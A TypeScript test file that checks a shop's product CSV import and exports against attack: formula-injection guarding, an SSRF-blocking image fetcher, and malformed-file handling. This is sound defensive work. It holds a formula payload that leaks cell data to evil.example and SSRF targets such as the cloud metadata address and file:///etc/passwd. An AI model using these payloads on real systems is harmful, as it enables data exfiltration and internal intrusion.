/**
 * Issue 38, item 8: the product CSV import and the CSV exports under attack, on both databases.
 * - every export neutralises a cell a spreadsheet would run as a formula (one shared encoder);
 * - image addresses at internal hosts are refused per row before anything is fetched; the fetcher itself
 *   (outbound.ts) refuses names that resolve inside, redirects inside, and caps size and time, connecting only
 *   to the address it checked;
 * - malformed files (unclosed quotes, other encodings, BOMs, ragged rows, 100k columns, a 10 MB cell, a file
 *   over the limit) get clear answers, never a 5xx.
 */
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { parse } from 'csv-parse/sync';
import { testApp, Visitor, OWNER, type TestApp } from '../../helpers/app.js';
import { APP_KINDS } from '../../helpers/db.js';
import { csvField, csvSafeText, csvText, csvUnguard } from '../../../src/core/csv.js';
import { SQUARESPACE_COLUMNS } from '../../../src/server/catalog/csv.js';
import { ownUpload } from '../../../src/server/catalog/import.js';
import { Outbound, OutboundError } from '../../../src/server/outbound.js';

const IMPORT = '/api/config/catalog/import';

function squarespaceCsv(rows: Array<Record<string, string>>): string {
  return csvText([[...SQUARESPACE_COLUMNS], ...rows.map((r) => SQUARESPACE_COLUMNS.map((c) => r[c] ?? ''))]);
}
const product = (over: Record<string, string> = {}) => ({
  'Product Page': 'shop',
  Title: 'Plain Mug',
  SKU: `MUG-${Math.random().toString(36).slice(2, 8)}`,
  Price: '12.00',
  Stock: '3',
  Visible: 'Yes',
  ...over,
});

describe('the shared CSV cell encoder', () => {
  it('neutralises formula starts with a quote, quotes per RFC 4180, and the import takes the guard off again', () => {
    for (const v of ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx', '=HYPERLINK("http://x","y")']) expect(csvSafeText(v)).toBe(`'${v}`);
    for (const v of ['Ada', '', '1.50', "'quoted", ' =lead']) expect(csvSafeText(v)).toBe(v);
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('=a"b')).toBe(`"'=a""b"`);
    expect(
      csvText([
        ['x', 1, null],
        ['=y', undefined, 'z'],
      ]),
    ).toBe(`x,1,\r\n"'=y",,z\r\n`);
    expect(csvUnguard("'=1+1")).toBe('=1+1');
    expect(csvUnguard("'plain")).toBe("'plain");
  });
});

describe('the outbound fetcher (SSRF guard)', () => {
  let server: Server;
  let port = 0;
  const hits: string[] = [];
  beforeAll(async () => {
    server = createServer((req, res) => {
      hits.push(req.url ?? '');
      if (req.url === '/ok.png') res.writeHead(200, { 'content-type': 'image/png' }).end(Buffer.from('png!'));
      else if (req.url === '/to-metadata') res.writeHead(302, { location: 'http://169.254.169.254/latest/meta-data/' }).end();
      else if (req.url === '/to-private') res.writeHead(301, { location: 'http://10.1.2.3/x.png' }).end();
      else if (req.url === '/to-file') res.writeHead(302, { location: 'file:///etc/passwd' }).end();
      else if (req.url === '/loop') res.writeHead(302, { location: '/loop' }).end();
      else if (req.url === '/big') res.writeHead(200, { 'content-type': 'image/png' }).end(Buffer.alloc(3000));
      else if (req.url === '/big-chunked') {
        res.writeHead(200, { 'content-type': 'image/png' });
        for (let i = 0; i < 10; i++) res.write(Buffer.alloc(500));
        res.end();
      } else if (req.url === '/never') {
        /* never answers */
      } else res.writeHead(404).end();
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    port = (server.address() as AddressInfo).port;
  });
  afterAll(async () => {
    server.closeAllConnections();
    await new Promise((r) => server.close(r));
  });

  const refusedStatically = [
    'http://127.0.0.1/',
    'http://127.9.9.9/',
    'http://10.0.0.1/',
    'http://172.16.0.1/',
    'http://172.31.255.255/',
    'http://192.168.1.1/',
    'http://169.254.169.254/latest/meta-data/',
    'http://[::1]/',
    'http://[fc00::1]/',
    'http://[fd12:3456::1]/',
    'http://[fe80::1]/',
    'http://0.0.0.0/',
    'http://[::ffff:127.0.0.1]/',
    'http://[::ffff:10.0.0.1]/',
    'http://[::]/',
    'http://0x7f.1/',
    'http://2130706433/',
    'http://localhost/',
    'http://LOCALHOST./',
    'http://a.localhost/',
    'file:///etc/passwd',
    'gopher://example.com/',
    'ftp://example.com/x.png',
  ];

  it('refuses internal addresses, other schemes and local names without the network', async () => {
    const resolved: string[] = [];
    const out = new Outbound({
      maxBytes: 1000,
      timeoutMs: 5000,
      resolve: async (h) => (resolved.push(h), [{ address: '93.184.215.14', family: 4 }]),
    });
    for (const url of refusedStatically) {
      expect(out.refusal(url), url).not.toBeNull();
      await expect(out.get(url), url).rejects.toBeInstanceOf(OutboundError);
    }
    expect(resolved).toEqual([]);
    expect(out.refusal('https://images.example.com/a.png')).toBeNull();
    expect(out.refusal('http://93.184.215.14/a.png')).toBeNull();
  });

  it('refuses a name that resolves to an internal address (any of its addresses), before connecting', async () => {
    for (const answer of [
      [{ address: '127.0.0.1', family: 4 }],
      [{ address: '169.254.169.254', family: 4 }],
      [
        { address: '93.184.215.14', family: 4 },
        { address: '10.0.0.5', family: 4 },
      ],
      [{ address: '::ffff:192.168.0.1', family: 6 }],
      [{ address: 'fe80::1', family: 6 }],
    ]) {
      const out = new Outbound({ maxBytes: 1000, timeoutMs: 5000, resolve: async () => answer });
      await expect(out.get('http://rebind.example/x.png')).rejects.toThrow(
        'rebind.example is an internal address, which the server does not fetch',
      );
    }
  });

  it('resolves once per hop and connects to the checked address, not to a later answer (no DNS rebinding)', async () => {
    let calls = 0;
    // The first answer is the (allowed) test server; any later answer would be the metadata address.
    const out = new Outbound({
      allow: ['127.0.0.1'],
      maxBytes: 1000,
      timeoutMs: 5000,
      resolve: async () => (calls++ === 0 ? [{ address: '127.0.0.1', family: 4 }] : [{ address: '169.254.169.254', family: 4 }]),
    });
    const got = await out.get(`http://images.example:${port}/ok.png`);
    expect(got.body.toString()).toBe('png!');
    expect(got.contentType).toBe('image/png');
    expect(calls).toBe(1);
  });

  it('checks every redirect hop, and caps redirects, size and time', async () => {
    const out = new Outbound({ allow: ['127.0.0.1'], maxBytes: 1000, timeoutMs: 300 });
    const base = `http://127.0.0.1:${port}`;
    await expect(out.get(`${base}/to-metadata`)).rejects.toThrow('169.254.169.254 is an internal address');
    await expect(out.get(`${base}/to-private`)).rejects.toThrow('10.1.2.3 is an internal address');
    await expect(out.get(`${base}/to-file`)).rejects.toThrow('not an http(s) address');
    await expect(out.get(`${base}/loop`)).rejects.toThrow('too many redirects');
    await expect(out.get(`${base}/big`)).rejects.toThrow('larger than 0 MB');
    await expect(out.get(`${base}/big-chunked`)).rejects.toThrow('larger than 0 MB');
    await expect(out.get(`${base}/never`)).rejects.toThrow('no answer within 0 seconds');
  });
});

describe.each(APP_KINDS)('product CSV import and exports under attack on %s', (kind) => {
  let t: TestApp;
  let admin: Visitor;
  beforeAll(async () => {
    t = await testApp(kind, { RATE_LIMIT_STORE: 'memory' });
    admin = new Visitor(t.app);
    expect((await admin.send('POST', '/api/auth/login', { email: OWNER.email, password: OWNER.password })).statusCode).toBe(200);
  });
  afterAll(async () => {
    await t?.close();
  });

  const dry = async (csv: string) => {
    const res = await admin.send('POST', IMPORT, { csv, dryRun: true });
    expect(res.statusCode, res.body.slice(0, 300)).toBeLessThan(500);
    return res;
  };

  it('the product export neutralises formula cells, and re-importing it gives the same text back', async () => {
    const title = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
    const res = await admin.send('POST', IMPORT, {
      csv: squarespaceCsv([product({ Title: title, Tags: '@tag', SKU: '-SKU-1' })]),
      dryRun: false,
    });
    expect(res.statusCode, res.body).toBe(202);
    // The job runs in the background: its state is asked until it has ended.
    const job = await vi.waitFor(
      async () => {
        const state = ((await admin.get(`${IMPORT}/${res.json().jobId as string}`)).json() as { state: string }).state;
        if (state !== 'done' && state !== 'failed') throw new Error(`import did not finish (${state})`);
        return state;
      },
      { timeout: 30_000, interval: 20 },
    );
    expect(job).toBe('done');
    const csv = (await admin.get('/api/config/catalog/export?format=squarespace')).body;
    const records = parse(csv, { columns: true }) as Array<Record<string, string>>;
    const mine = records.find((r) => r.Title?.includes('HYPERLINK'))!;
    expect(mine.Title).toBe(`'${title}`);
    expect(mine.Tags).toBe("'@tag");
    expect(mine.SKU).toBe("'-SKU-1");
    // The exported file read back: the guard comes off, so the dry run updates that product (same SKU); the
    // images on this site's own address are taken as they are, not fetched (nor refused as internal).
    const again = (await dry(csv)).json() as { errors: unknown[]; updates: number; preview: Array<{ title: string; action: string }> };
    expect(again.errors).toEqual([]);
    expect(again.preview.find((p) => p.title === title)?.action).toBe('update');
  });

  it('the customers export neutralises every column', async () => {
    const res = await admin.get('/api/admin/customers.csv');
    expect(res.statusCode).toBe(200);
    for (const line of res.body.split('\r\n').filter(Boolean))
      for (const cell of parse(line)[0] as string[]) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('takes an image of this site by its address without fetching it, and only a stored one', async () => {
    const origin = await t.app.emailOrigin();
    expect(ownUpload(`${origin}/uploads/0123456789abcdef01234567.jpg`, origin)).toBe('/uploads/0123456789abcdef01234567.jpg');
    expect(ownUpload(`${origin}/demo-media/mug.jpg`, origin)).toBe('/demo-media/mug.jpg');
    for (const u of [
      `${origin}/uploads/../config`,
      `${origin}/uploads/a.jpg?x=1`,
      `${origin}/api/admin/backup`,
      'http://127.0.0.2/uploads/a.jpg',
      `${origin}/uploads/sub/a.jpg`,
    ])
      expect(ownUpload(u, origin), u).toBeNull();
  });

  it('refuses image addresses at internal hosts with a message on their row, and fetches nothing', async () => {
    const urls = [
      'http://127.0.0.1:1/a.png',
      'http://169.254.169.254/latest/meta-data/',
      'http://[::1]/a.png',
      'http://10.0.0.1/a.png',
      'http://192.168.0.1/a.png',
      'http://[::ffff:172.16.0.1]/a.png',
      'http://localhost/a.png',
      'http://0.0.0.0/a.png',
    ];
    const rows = urls.map((u, i) => product({ Title: `Mug ${i}`, 'Product URL': `mug-${i}`, 'Hosted Image URLs': u }));
    rows.push(product({ Title: 'File', 'Product URL': 'file-mug', 'Hosted Image URLs': 'file:///etc/passwd' }));
    const answer = (await dry(squarespaceCsv(rows))).json() as { errors: Array<{ row: number; message: string }> };
    urls.forEach((u, i) => {
      const e = answer.errors.find((x) => x.row === i + 2);
      expect(e?.message, u).toMatch(/^The image .* cannot be imported: .* is an internal address, which the server does not fetch\.$/);
    });
    expect(answer.errors.find((x) => x.row === urls.length + 2)?.message).toBe(
      'The image address file:///etc/passwd must start with http:// or https://.',
    );
    // A real run of the same file is refused whole.
    expect((await admin.send('POST', IMPORT, { csv: squarespaceCsv(rows), dryRun: false })).statusCode).toBe(400);
  });

  it('answers malformed files with clear errors and never a 5xx', async () => {
    const header = SQUARESPACE_COLUMNS.join(',');
    const firstError = async (csv: string) => ((await dry(csv)).json() as { errors: Array<{ message: string }> }).errors[0]?.message ?? '';
    expect(await firstError(`${header}\n"abc,1,2\nmore`)).toMatch(/^The file cannot be read as CSV: a quoted cell is never closed/);
    // A BOM, and ragged rows (short and long) read as the header says.
    const bom = await dry(
      `\uFEFF${header}\n${squarespaceCsv([product({ Title: 'Bom Mug', 'Product URL': 'bom-mug' })]).split('\r\n')[1]},extra,cells\nshort`,
    );
    expect(bom.json().preview?.[0]?.title).toBe('Bom Mug');
    // UTF-16 read as UTF-8 (NULs), Latin-1 read as UTF-8 (replacement characters).
    expect(await firstError(`T\u0000i\u0000t\u0000l\u0000e\u0000`)).toBe(
      'The file is not UTF-8 text (it may be UTF-16 or Latin-1): save it as "CSV UTF-8" and choose it again.',
    );
    expect(await firstError(`${header}\nCaf\uFFFD`)).toMatch(/^The file is not UTF-8 text/);
    // 100,000 columns.
    expect(await firstError(Array.from({ length: 100_000 }, (_, i) => `c${i}`).join(','))).toBe(
      'The first line names more than 250 columns: this is not a product CSV.',
    );
    // A 10 MB single cell (and so an unclosed quote over the rest of a large file).
    expect(await firstError(`${header}\n${'x'.repeat(10_000_000)}`)).toMatch(
      /^The file cannot be read as CSV: the row on line 2 is longer than 2 million characters/,
    );
    expect(await firstError(`${header}\n"${'y'.repeat(3_000_000)}`)).toMatch(
      /^The file cannot be read as CSV: the row on line 2 is longer/,
    );
    // Many tiny rows past the row limit.
    expect(await firstError(`${header}\n${'a\n'.repeat(20_050)}`)).toBe('A file can hold up to 20000 rows.');
  });

  it('answers a file over the limit with 413 and the limit in words', async () => {
    const big = await admin.send('POST', IMPORT, { csv: 'a'.repeat(20_100_000), dryRun: true });
    expect(big.statusCode).toBe(413);
    expect(big.json().message).toBe('The file is too large: a product CSV can be up to 20 MB.');
    const justOver = await admin.send('POST', IMPORT, { csv: 'a'.repeat(20_000_001), dryRun: true });
    expect(justOver.statusCode).toBe(413);
    expect(justOver.json().message).toBe('The file is too large: a product CSV can be up to 20 MB.');
  });
});
